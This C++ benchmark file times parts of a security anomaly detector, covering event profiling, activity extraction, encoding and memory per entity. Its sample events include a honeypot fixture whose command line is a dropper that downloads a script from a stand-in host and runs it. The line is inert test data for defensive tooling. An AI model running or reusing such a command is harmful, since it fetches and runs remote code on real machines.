// What one event costs: the activity (by a worker), everyone's counts (by every lane), the profile
// (by the lane that owns the entity), and a vector when a look is due.
#include "anomaly/profile.h"

#include "anomaly/testing.h"
#include "base/bounded_table.h"

#include <benchmark/benchmark.h>

#include <array>
#include <fstream>
#include <string>
#include <string_view>
#include <vector>

namespace vedette::anomaly {
namespace {

using testing::kMinute;
using testing::kMonday;
using testing::kSecond;

/// As in a Detector's table, where a profile begins with a line of the cache.
struct Tracked {
  std::array<std::uint64_t, 6> others{};
  Profile profile;
};

constexpr auto kSpareNone = [](std::uint64_t, Tracked&) { return true; };

struct Observation {
  std::uint64_t entity;
  Activity activity;
};

/// Refused logins and requests, five a second for each entity over a minute, in random order.
std::vector<Observation> observations(std::uint32_t entities) {
  Random random(1);
  std::vector<Observation> all(1 << 20);
  const auto count = static_cast<std::int64_t>(all.size());
  for (std::int64_t i = 0; i < count; ++i) {
    Observation& one = all[static_cast<std::size_t>(i)];
    one.entity = mix64(random.below(entities) + 1);
    Activity& activity = one.activity;
    activity = testing::at(kMonday + i * 10 * kMinute / count, Outcome::Failure);
    testing::set(activity, Facet::Source, static_cast<std::uint32_t>(one.entity));
    testing::set(activity, Facet::Network, static_cast<std::uint32_t>(one.entity >> 8));
    testing::set(activity, Facet::Host, random.below(20));
    if (random.chance(0.5)) {
      testing::set(activity, Facet::User, random.below(300));
    } else {
      testing::set(activity, Facet::Path, random.below(3000));
      testing::set(activity, Facet::Agent, random.below(100));
      activity.has_request = true;
      activity.place = activity.facet(Facet::Path);
      activity.status_class = 2;
      activity.method = Method::Read;
      activity.bytes = random.below(100'000);
    }
  }
  return all;
}

void BM_Observe(benchmark::State& state) {
  const auto entities = static_cast<std::uint32_t>(state.range(0));
  const auto ahead = static_cast<std::size_t>(state.range(1));
  const auto all = observations(entities);
  BoundedTable<Tracked> table(entities);
  const auto profile_of = [&](std::uint64_t entity) {
    Tracked* found = table.find(entity);
    return found != nullptr ? found : &table.insert(entity, kSpareNone);
  };
  for (const Observation& one : all) profile_of(one.entity);
  const Novelty novelty;
  std::size_t due = 0;
  for (auto _ : state) {
    for (std::size_t i = 0; i < all.size(); ++i) {
      if (ahead > 0 && i + 2 * ahead < all.size()) {
        table.prefetch(all[i + 2 * ahead].entity);
        const Observation& soon = all[i + ahead];
        if (const Tracked* its = table.peek(soon.entity)) {
          __builtin_prefetch(its, 1);
          its->profile.prefetch(Kind::Source, soon.activity);
        }
      }
      Profile& profile = profile_of(all[i].entity)->profile;
      profile.observe(Kind::Source, all[i].activity, novelty);
      due += profile.due();
    }
  }
  const auto count = state.iterations() * static_cast<std::int64_t>(all.size());
  state.SetItemsProcessed(count);
  state.counters["due"] = static_cast<double>(due) / static_cast<double>(count);
}
BENCHMARK(BM_Observe)->Args({1000, 0})->Args({1000, 8})->Args({100'000, 0})->Args({100'000, 8});

void BM_EveryoneNote(benchmark::State& state) {
  const auto all = observations(static_cast<std::uint32_t>(state.range(0)));
  Everyone everyone;
  for (auto _ : state) {
    for (const Observation& one : all) benchmark::DoNotOptimize(everyone.note(one.activity));
  }
  state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(all.size()));
}
BENCHMARK(BM_EveryoneNote)->Arg(1000)->Arg(100'000);

void BM_Features(benchmark::State& state) {
  Random random(2);
  Profile profile;
  std::int64_t time = kMonday;
  for (int i = 0; i < 20'000; ++i) {
    time += random.below(600) * kSecond;
    profile.observe(Kind::Source, testing::random_activity(random, time, 500), {});
  }
  for (auto _ : state) benchmark::DoNotOptimize(testing::features_of(profile, Kind::Source));
}
BENCHMARK(BM_Features);

/// As decoders leave such events.
void fill_ssh(EventBatch& batch) {
  batch.set_action(Action::FailedPassword);
  batch.set(Field::HostName, "bastion-02");
  batch.set(Field::SourceIp, *parse_ip("192.0.2.17"));
  batch.set(Field::UserName, "administrator");
}
void fill_web(EventBatch& batch) {
  batch.set_action(Action::HttpRequest);
  batch.set(Field::SourceIp, *parse_ip("2001:db8:17::9"));
  batch.set(Field::HttpMethod, "GET");
  batch.set(Field::UrlPath, "/shop/category/1742/garden-chairs/wooden-folding-chair.html");
  batch.set(Field::UrlQuery, "colour=green&sort=price&page=3&utm_source=newsletter%20november");
  batch.set(Field::HttpStatus, std::int64_t{200});
  batch.set(Field::HttpBodyBytes, std::int64_t{18'342});
  batch.set(Field::UserAgent,
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0");
}
void fill_netfilter(EventBatch& batch) {
  batch.set_action(Action::PacketDenied);
  batch.set(Field::HostName, "gate");
  batch.set(Field::SourceIp, *parse_ip("198.51.100.200"));
  batch.set(Field::DestinationPort, std::int64_t{8443});
  batch.set(Field::NetworkBytes, std::int64_t{40});
}
void fill_sudo(EventBatch& batch) {
  batch.set_action(Action::SudoCommand);
  batch.set(Field::HostName, "bastion-02");
  batch.set(Field::UserName, "ann");
  batch.set(Field::ProcessCommandLine, "/usr/bin/rsync -az --delete /srv/www/ backup:/srv/www/");
}
void fill_cowrie(EventBatch& batch) {
  batch.set_action(Action::HoneypotCommand);
  batch.set(Field::SourceIp, *parse_ip("203.0.113.4"));
  batch.set(
      Field::ProcessCommandLine,
      "cd /tmp || cd /var/run; wget http://203.0.113.9/a.sh; chmod 777 a.sh; sh a.sh >/dev/null");
}

void BM_Activity(benchmark::State& state, void (*fill)(EventBatch&)) {
  EventBatch batch(fields_read());
  for (int i = 0; i < 1000; ++i) {
    batch.begin("").time = Time{std::chrono::nanoseconds(kMonday + i)};
    fill(batch);
    batch.end();
  }
  PathShapes paths;
  for (auto _ : state) {
    for (const Event& event : batch.events()) {
      const Entities entities(batch, event);
      benchmark::DoNotOptimize(activity_of(batch, event, entities, paths));
    }
  }
  state.SetItemsProcessed(state.iterations() * 1000);
}
BENCHMARK_CAPTURE(BM_Activity, ssh, fill_ssh);
BENCHMARK_CAPTURE(BM_Activity, web, fill_web);
BENCHMARK_CAPTURE(BM_Activity, netfilter, fill_netfilter);
BENCHMARK_CAPTURE(BM_Activity, sudo, fill_sudo);
BENCHMARK_CAPTURE(BM_Activity, cowrie, fill_cowrie);

void BM_Encode(benchmark::State& state) {
  Random random(3);
  Profile profile;
  for (std::int64_t i = 0; i < state.range(0); ++i) {
    const Activity activity = testing::random_activity(random, kMonday + i * kMinute, 500);
    profile.observe(Kind::Source, activity, {});
  }
  std::string bytes;
  for (auto _ : state) {
    bytes.clear();
    Writer writer(bytes);
    profile.encode(writer);
    benchmark::DoNotOptimize(bytes.data());
  }
  state.counters["bytes"] = static_cast<double>(bytes.size());
}
BENCHMARK(BM_Encode)->Arg(1)->Arg(10'000);

double resident_bytes() {
  std::ifstream statm("/proc/self/statm");
  double pages = 0, resident = 0;
  statm >> pages >> resident;
  return resident * 4096;
}

/// Run it alone: what others gave back would count for it.
void BM_MemoryOfAMillion(benchmark::State& state) {
  constexpr std::uint64_t kEntities = 1'000'000;
  for (auto _ : state) {
    const double before = resident_bytes();
    BoundedTable<Tracked> table(kEntities);
    for (std::uint64_t i = 0; i < kEntities; ++i) {
      table.insert(mix64(i + 1), kSpareNone)
          .profile.observe(Kind::Source, testing::at(kMonday), {});
    }
    state.counters["bytes_each"] = (resident_bytes() - before) / kEntities;
  }
}
BENCHMARK(BM_MemoryOfAMillion)->Iterations(1)->Unit(benchmark::kMillisecond);

}  // namespace
}  // namespace vedette::anomaly
